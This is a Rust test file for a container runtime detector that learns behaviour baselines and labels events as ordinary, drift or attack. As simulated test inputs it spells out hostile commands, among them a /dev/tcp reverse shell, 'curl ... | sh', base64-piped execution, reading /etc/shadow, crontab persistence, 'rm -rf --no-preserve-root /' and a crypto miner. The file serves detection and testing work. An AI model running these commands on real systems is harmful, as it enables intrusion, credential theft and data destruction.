//! Verdicts: what the model says of ordinary work, drifts and attacks, and that it says so for a reason.

mod rhythm;
mod world;

use plumbline_model::{
    BaselineState, EVIDENCE, Indicators, Params, Verdict,
    event::{Action, Batch, Call, CallKind, Loss, ProcessFlags, Source, Untold},
};
use std::sync::Arc;
use world::{REPOSITORY, World};

const PUBLIC: Action<'static> = Action::Connect { address: "93.184.216.34", port: 4444, name: "" };

#[test]
fn ordinary_work_of_a_learned_image_is_silent_in_new_containers_too() {
    let mut world = World::learned();
    let server = world.serve(3);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    assert_eq!(world.verdicts(), []);
}

#[test]
fn an_operator_who_edits_the_configuration_in_place_is_one_drift() {
    let mut world = World::learned();
    let shell = world.session(0, "/bin/sh", &["sh", "-c", "sed -i s/a/b/ /etc/web.conf"], 0);
    world.exec(shell);
    let sed = world.spawn(shell, "/bin/sed", &["sed", "-i", "s/a/b/", "/etc/web.conf"], 0);
    world.exec(sed);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Drift);
    assert_eq!(verdicts[0].1.findings.len(), 2);
    assert!(world.evidence().contains(&"runtime_exec_session".to_owned()));
}

#[test]
fn a_known_program_with_new_arguments_is_a_drift_with_what_was_expected() {
    let mut world = World::learned();
    let server = world.serve(0);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--debug"], 0);
    world.exec(health);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Drift);
    assert_eq!(verdicts[0].1.findings[0].expected[0].value, "--port <num>");
}

#[test]
fn a_dropped_binary_that_connects_out_is_an_attack_even_from_an_exec_session() {
    let mut world = World::learned();
    let shell = world.session(0, "/bin/sh", &["sh", "-c", "/tmp/x"], 0);
    world.exec(shell);
    let dropped = world.spawn(shell, "/tmp/x", &["/tmp/x"], ProcessFlags::UPPER_LAYER);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1, "one incident for one chain");
    assert_eq!(verdicts[0].0, Verdict::Attack);
    assert!(verdicts[0].1.probabilities.attack > 0.9);
}

#[test]
fn a_shell_below_the_server_is_an_attack_and_what_follows_joins_it() {
    let mut world = World::learned();
    let server = world.serve(1);
    let shell = world.spawn(server, "/bin/sh", &["sh", "-c", "id; uname -a; whoami"], 0);
    world.exec(shell);
    for (path, arguments) in [
        ("/usr/bin/id", &["id"][..]),
        ("/bin/uname", &["uname", "-a"][..]),
        ("/usr/bin/whoami", &["whoami"][..]),
    ] {
        let tool = world.spawn(shell, path, arguments, 0);
        world.exec(tool);
    }
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Attack);
    let evidence = world.evidence();
    for name in ["service_started_shell", "reconnaissance_sequence", "service_started_tool"] {
        assert!(evidence.iter().any(|item| item == name), "{name} is missing in {evidence:?}");
    }
}

#[test]
fn a_dropped_binary_during_learning_is_an_attack_for_there_is_no_amnesty() {
    let mut world = World::new();
    let server = world.serve(0);
    let dropped = world.spawn(server, "/tmp/.x", &["[kworker]"], ProcessFlags::MEMFD);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    let verdicts = world.verdicts();
    assert_eq!(verdicts.len(), 1);
    assert_eq!(verdicts[0].0, Verdict::Attack);
    assert!(verdicts[0].1.caveats.iter().any(|caveat| caveat.contains("still learning")));
}

#[test]
fn what_was_judged_an_attack_never_enters_the_baseline() {
    let mut world = World::learned();
    let known = |world: &World| {
        let image = world.model.image(REPOSITORY, world.digest).unwrap();
        world.model.summary(image).dimensions.iter().map(|d| d.behaviours).sum::<u64>()
    };
    let before = known(&world);
    for round in 0..5 {
        let server = world.serve(2);
        let shell = world.spawn(server, "/bin/bash", &["bash", "-i"], ProcessFlags::SOCKET_STDIO);
        world.exec(shell);
        assert_eq!(known(&world), before, "round {round}");
    }
    assert_eq!(world.verdicts().len(), 1, "the same news from the same container is one incident");
    assert_eq!(world.verdicts()[0].1.events, 4, "repeats are told at one, two and four, not each time");
}

#[test]
fn what_looked_harmless_is_forgotten_when_its_incident_turns_out_otherwise() {
    let mut world = World::new();
    let server = world.serve(0);
    let shell = world.spawn(server, "/bin/ash", &["ash"], 0);
    world.exec(shell);
    let tool = world.spawn(shell, "/bin/odd", &["odd"], 0);
    assert!(world.exec(tool).incidents.is_empty(), "while learning, a new tool is not alerted");
    let image = format!("{:?}", world.model.image(REPOSITORY, world.digest).unwrap());
    assert!(image.contains("/bin/odd"));
    let dropped = world.spawn(shell, "/tmp/x", &["/tmp/x"], ProcessFlags::MEMFD);
    world.exec(dropped);
    world.act(dropped, PUBLIC);
    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
    let tables = world.model.summary(world.model.image(REPOSITORY, world.digest).unwrap());
    let spawns = tables.dimensions[0].behaviours;
    assert_eq!(spawns, 1, "only the server's own start is left");
}

#[test]
fn a_new_version_starts_from_what_its_predecessor_does() {
    let mut world = World::learned();
    world.digest = "sha256:v2";
    let server = world.serve(0);
    for _ in 0..20 {
        world.close_windows(false);
    }
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    assert_eq!(world.verdicts(), []);
    assert_eq!(world.state(), BaselineState::Learning, "the new version has a baseline of its own");
}

#[test]
fn windows_with_losses_teach_nothing() {
    let mut world = World::new();
    world.serve(0);
    world.close_windows(true);
    world.close_windows(false);
    let image = world.model.image(REPOSITORY, world.digest).unwrap();
    let summary = world.model.summary(image);
    assert_eq!((summary.exposures, summary.exposures_lossy), (4, 4));
}

#[test]
fn what_nobody_watches_is_never_learned_and_is_named_beside_a_verdict() {
    let untold = Untold(Untold::LAYERS | Untold::RIGHTS_CHANGES | Untold::CALLS);
    let mut world = World::learned_from(Source { name: "falco", untold });
    let summary = world.model.summary(world.model.image(REPOSITORY, world.digest).unwrap());
    let unwatched: Vec<&str> = summary
        .dimensions
        .iter()
        .filter(|dimension| dimension.state == BaselineState::Unwatched)
        .map(|dimension| dimension.dimension.name())
        .collect();
    assert_eq!(unwatched, ["origin", "identity", "call"]);
    assert_eq!(summary.state, BaselineState::Stable, "what is watched has been learned");
    for dimension in &summary.dimensions {
        let watched = dimension.state != BaselineState::Unwatched;
        assert_eq!(dimension.exposures, if watched { summary.exposures } else { 0 });
    }
    // A kernel source takes over: what it alone shows is only beginning to be learned.
    world.source = Source::default();
    world.close_windows(false);
    assert_eq!(world.state(), BaselineState::Learning);
    let origin = &world.model.summary(world.model.image(REPOSITORY, world.digest).unwrap()).dimensions[2];
    assert_eq!((origin.state, origin.exposures), (BaselineState::Learning, 4));

    world.source = Source { name: "falco", untold };
    let server = world.serve(0);
    let shell = world.spawn(server, "/bin/sh", &["sh", "-i"], ProcessFlags::SOCKET_STDIO);
    world.exec(shell);
    let (verdict, incident) = world.verdicts().remove(0);
    assert_eq!(verdict, Verdict::Attack);
    let caveats = incident.caveats.join("\n");
    assert!(
        caveats.contains(
            "the source falco does not tell changes of rights, whether a file was in the image, system calls"
        ),
        "{caveats}"
    );
    assert!(incident.findings.iter().all(|finding| finding.dimension.name() != "origin"));
}

#[test]
fn losses_are_named_in_the_verdict() {
    let mut world = World::learned();
    let lost = Batch { losses: vec![Loss { container: None, events: 7 }], ..world.batch() };
    world.apply(lost);
    let shell = world.session(0, "/bin/sh", &["sh"], ProcessFlags::TERMINAL);
    world.exec(shell);
    assert!(
        world.verdicts()[0].1.caveats.iter().any(|caveat| caveat.contains("7 events")),
        "{:?}",
        world.told
    );
}

#[test]
fn a_busy_loop_teaches_no_more_than_one_execution_a_window() {
    let observations = |repeats: usize| {
        let mut world = World::new();
        let server = world.serve(0);
        for _ in 0..repeats {
            let tool = world.spawn(server, "/bin/tool", &["tool"], 0);
            world.exec(tool);
        }
        let image = world.model.image(REPOSITORY, world.digest).unwrap();
        world.model.summary(image).dimensions.iter().map(|d| d.observations).sum::<u64>()
    };
    assert_eq!(observations(1), observations(500));
}

#[test]
fn names_that_carry_data_make_a_tunnel_only_below_one_another() {
    let tunnel = |names: &[&'static str]| {
        let mut world = World::learned();
        let server = world.serve(0);
        names.iter().for_each(|name| drop(world.act(server, Action::Resolve { name })));
        world.evidence().contains(&"data_in_domain_names".to_owned())
    };
    let (a, b) = ("7569643d3028726f6f74.t.example", "29206769643d302872.t.example");
    assert!(tunnel(&[a, b, "6f74292067726f7570.t.example"]));
    assert!(!tunnel(&[a, b, "6f74292067726f7570.other.example", "d111111abcdef8.t.example"]));
}

#[test]
fn an_address_without_a_name_is_excused_only_where_the_start_was_missed() {
    // The excuse was once remembered with the event, and held for containers that had been watched from the start.
    let connect = |name| Action::Connect { address: "93.184.216.34", port: 443, name };
    let mut world = World::new();
    let server = world.serve(0);
    for _ in 0..2 {
        world.act(server, connect("api.example"));
        world.close_windows(false);
    }
    let mut world = world.learn();
    let servers: Vec<usize> = (0..4).map(|container| world.serve(container)).collect();
    world.late = Some(2);
    world.act(servers[2], connect(""));
    assert_eq!(world.verdicts(), [], "a name that could not be known was missed");
    world.late = None;
    world.act(servers[1], connect(""));
    assert_eq!(world.verdicts()[0].0, Verdict::Drift, "news passed for what was excused elsewhere");
}

#[test]
fn who_started_what_was_found_running_is_no_news_and_what_is_unknown_is() {
    let mut world = World::learned();
    let server = world.serve(0);
    let worker = world.spawn(server, "/usr/sbin/web", &["web: worker process"], ProcessFlags::PRIMED);
    let orphan = world.spawn(worker, "/usr/bin/health", &["health", "--port", "80"], ProcessFlags::PRIMED);
    world.exec(worker);
    world.exec(orphan);
    assert_eq!(world.verdicts(), []);
    let miner = world.spawn(server, "/tmp/xmrig", &["xmrig"], ProcessFlags::PRIMED);
    world.exec(miner);
    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
}

#[test]
fn a_quiet_hour_ends_an_incident() {
    let mut world = World::learned();
    let quiet = Params::default().quiet_windows + 2;
    for expected in 1..3 {
        let shell = world.session(0, "/bin/sh", &["sh"], 0);
        world.exec(shell);
        assert_eq!(world.verdicts().len(), expected);
        (0..quiet).for_each(|_| world.close_windows(false));
    }
}

#[test]
fn the_same_batches_give_the_same_state_and_the_same_words() {
    let run = || {
        let mut world = World::learned();
        let shell = world.session(0, "/bin/sh", &["sh", "-c", "curl http://10.0.0.1/x | sh"], 0);
        world.exec(shell);
        let states: Vec<_> = world.model.images().map(|image| postcard::to_stdvec(image).unwrap()).collect();
        (states, world.told)
    };
    assert!(run() == run());
}

#[test]
fn a_stored_state_goes_on_as_if_it_had_never_been_stored() {
    let mut kept = World::learned();
    let mut stored = World::learned();
    stored.restore();
    for world in [&mut kept, &mut stored] {
        let shell = world.session(0, "/bin/sh", &["sh"], 0);
        world.exec(shell);
    }
    assert_eq!(kept.told, stored.told);
}

#[test]
fn what_happens_all_the_time_is_no_news_and_what_escapes_is_an_attack() {
    let call = |kind, error, subject| Action::Call(Call { kind, error, subject, detail: "" });
    let mut world = World::learned();
    let server = world.serve(0);
    world.act(server, call(CallKind::ExecFailed, 2, "/usr/local/bin/health"));
    world.act(server, call(CallKind::UnixConnect, 0, "/run/systemd/notify"));
    assert!(world.verdicts().iter().all(|(verdict, _)| *verdict != Verdict::Attack));
    let mut world = World::learned();
    let server = world.serve(0);
    world.act(server, call(CallKind::UnixConnect, 0, "/run/containerd/containerd.sock"));
    assert_eq!(world.verdicts()[0].0, Verdict::Attack);
}

/// A rule of somebody's own.
const RULE: &str = "
title: The shop's own tool for repairs
logsource: {category: process_creation, product: linux}
detection:
    tool: {Image|endswith: /mend}
    condition: tool
tags: [attack.t1059]
level: ";

#[test]
fn a_rule_that_hits_turns_a_drift_into_an_attack_and_says_why() {
    let judged = |level: &str| {
        let mut rules = Indicators::default();
        if !level.is_empty() {
            assert_eq!(rules.add("own.yml", &format!("{RULE}{level}")).rules, 1);
        }
        let mut world = World::with_rules(&Arc::new(rules)).learn();
        let server = world.serve(0);
        let mend = world.spawn(server, "/tmp/mend", &["mend", "--all"], 0);
        world.exec(mend);
        world.verdicts().remove(0)
    };
    let (verdict, incident) = judged("");
    assert_eq!(verdict, Verdict::Drift, "{:?}", incident.evidence);
    assert!(incident.evidence.iter().all(|item| !item.name.starts_with("indicator")));
    let (verdict, incident) = judged("critical");
    assert_eq!(verdict, Verdict::Attack, "{:?}", incident.evidence);
    let item = incident.evidence.iter().find(|item| item.name == "indicator_critical").unwrap();
    assert_eq!(item.fact, "The shop's own tool for repairs: mend --all");
    assert_eq!(item.technique, "T1059");
}

#[test]
fn no_rule_gives_a_verdict_alone_and_none_is_asked_of_what_is_known() {
    let mut rules = Indicators::default();
    rules.add("own.yml", &format!("{RULE}critical"));
    rules.add("own.yml", &format!("{}critical", RULE.replace("/mend", "/health")));
    let mut world = World::with_rules(&Arc::new(rules)).learn();
    let server = world.serve(0);
    let health = world.spawn(server, "/usr/bin/health", &["health", "--port", "80"], 0);
    world.exec(health);
    assert_eq!(world.verdicts(), [], "a rule was asked of known behaviour");
    let mend = world.session(0, "/usr/bin/mend", &["mend"], 0);
    world.exec(mend);
    assert_eq!(world.verdicts()[0].0, Verdict::Drift);
    assert_eq!(world.evidence(), ["indicator_critical", "runtime_exec_session"]);
}

/// One way to raise each row of the evidence table: a command below the server or in a session.
#[test]
fn every_row_of_the_evidence_table_can_be_raised_and_ordinary_work_raises_none() {
    const UPPER: u32 = ProcessFlags::UPPER_LAYER;
    type Command = (&'static str, &'static [&'static str], u32);
    let call = |kind, error, subject: &'static str| Action::Call(Call { kind, error, subject, detail: "" });
    let exec = |path: &'static str, line: &'static [&'static str], flags: u32| (path, line, flags);
    let cases: &[(&str, Command, Option<Action<'static>>)] = &[
        ("executable_written_after_build", exec("/opt/x", &["/opt/x"], UPPER), None),
        ("executable_in_memory", exec("memfd:x", &["x"], ProcessFlags::MEMFD), None),
        ("executable_deleted", exec("/opt/x", &["x"], ProcessFlags::DELETED), None),
        ("executable_in_scratch_directory", exec("/dev/shm/x", &["x"], 0), None),
        ("executable_masquerades", exec("/opt/x", &["nginx: worker"], UPPER), None),
        ("egress_by_new_executable", exec("/opt/x", &["x"], UPPER), Some(PUBLIC)),
        (
            "listener_by_new_executable",
            exec("/opt/x", &["x"], UPPER),
            Some(Action::Listen { address: "0.0.0.0", port: 9 }),
        ),
        ("service_started_shell", exec("/bin/dash", &["sh"], 0), None),
        ("service_runs_new_code", exec("/bin/dash", &["sh", "-c", "id"], 0), None),
        ("nobody_at_work", exec("/bin/y", &["y"], 0), None),
        ("service_started_tool", exec("/usr/bin/curl", &["curl"], 0), None),
        ("shell_on_socket", exec("/bin/bash", &["bash"], ProcessFlags::SOCKET_STDIO), None),
        ("downloader_started", exec("/usr/bin/wget", &["wget", "http://x/y"], 0), None),
        ("file_made_executable", exec("/bin/chmod", &["chmod", "+x", "/tmp/y"], 0), None),
        ("network_relay_started", exec("/bin/nc", &["nc", "-l"], 0), None),
        ("scanner_started", exec("/usr/bin/nmap", &["nmap"], 0), None),
        (
            "metadata_service_contacted",
            exec("/bin/y", &["y"], 0),
            Some(Action::Connect { address: "169.254.169.254", port: 80, name: "" }),
        ),
        ("first_public_egress", exec("/bin/y", &["y"], 0), Some(PUBLIC)),
        ("new_listener", exec("/bin/y", &["y"], 0), Some(Action::Listen { address: "0.0.0.0", port: 9 })),
        (
            "code_from_network",
            exec("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"], 0),
            None,
        ),
        ("encoded_code", exec("/bin/sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"], 0), None),
        ("credentials_named", exec("/bin/cat", &["cat", "/etc/shadow"], 0), None),
        ("persistence_location_named", exec("/bin/sh", &["sh", "-c", "echo x >> /etc/crontab"], 0), None),
        ("host_interface_named", exec("/bin/sh", &["sh", "-c", "ls /var/run/docker.sock"], 0), None),
        ("privilege_tool_started", exec("/usr/bin/nsenter", &["nsenter"], 0), None),
        ("miner_started", exec("/opt/y", &["y", "-o", "stratum+tcp://pool:3333"], 0), None),
        ("tracks_covered", exec("/bin/sh", &["sh", "-c", "rm -rf /var/log/app"], 0), None),
        ("destruction", exec("/bin/rm", &["rm", "-rf", "--no-preserve-root", "/"], 0), None),
        ("indicator_low", exec("/bin/touch", &["touch", "-r", "/bin/ls", "/srv/x"], 0), None),
        ("indicator_medium", exec("/bin/cat", &["cat", "/proc/1/cgroup"], 0), None),
        ("indicator_high", exec("/usr/bin/find", &["find", "/", "-perm", "-4000"], 0), None),
        ("indicator_critical", exec("/opt/cdk", &["cdk", "evaluate"], 0), None),
        ("left_container", exec("/bin/y", &["y"], ProcessFlags::HOST_MOUNTS), None),
        ("namespace_changed", exec("/bin/y", &["y"], 0), Some(call(CallKind::Unshare, 0, ""))),
        ("file_system_mounted", exec("/bin/y", &["y"], 0), Some(call(CallKind::Mount, 1, "/mnt"))),
        ("kernel_code_loaded", exec("/bin/y", &["y"], 0), Some(call(CallKind::Module, 1, ""))),
        ("bpf_program_loaded", exec("/bin/y", &["y"], 0), Some(call(CallKind::Bpf, 0, ""))),
        ("process_attached_to", exec("/bin/y", &["y"], 0), Some(call(CallKind::Ptrace, 0, ""))),
        ("file_in_memory", exec("/bin/y", &["y"], 0), Some(call(CallKind::Memfd, 0, "x"))),
        (
            "runtime_socket_contacted",
            exec("/bin/y", &["y"], 0),
            Some(call(CallKind::UnixConnect, 0, "/var/run/docker.sock")),
        ),
        ("root_gained", exec("/bin/y", &["y"], 0), Some(Action::Credentials { before: 0 })),
        ("execution_refused", exec("/bin/y", &["y"], 0), Some(call(CallKind::ExecFailed, 13, "/dev/shm/x"))),
        ("package_manager", exec("/usr/bin/apt-get", &["apt-get", "install", "x"], 0), None),
    ];
    let mut raised: Vec<String> = Vec::new();
    for (name, (path, line, flags), then) in cases {
        let mut world = World::learned();
        let server = world.serve(0);
        let process = world.spawn(server, path, line, *flags);
        world.exec(process);
        if let Some(action) = then {
            world.act(process, *action);
        }
        let evidence = world.evidence();
        assert!(evidence.iter().any(|item| item == name), "{name} was not raised by {line:?}: {evidence:?}");
        raised.extend(evidence);
    }
    let mut world = World::learned();
    let server = world.serve(0);
    for name in
        ["7569643d3028726f6f74.t.example", "29206769643d302872.t.example", "6f74292067726f7570.t.example"]
    {
        world.act(server, Action::Resolve { name });
    }
    raised.extend(world.evidence());
    let mut world = World::learned();
    let shell = world.session(0, "/bin/sh", &["sh"], ProcessFlags::TERMINAL);
    world.exec(shell);
    for (path, line) in [("/bin/ps", &["ps"][..]), ("/bin/df", &["df"][..]), ("/bin/ss", &["ss"][..])] {
        let tool = world.spawn(shell, path, line, 0);
        world.exec(tool);
    }
    raised.extend(world.evidence());
    assert_eq!(world.verdicts()[0].0, Verdict::Drift, "an operator who looks around is no attacker");
    raised.extend(rhythm::evidence());
    for row in EVIDENCE {
        assert!(raised.iter().any(|name| name == row.name), "nothing here raises {}", row.name);
    }
}
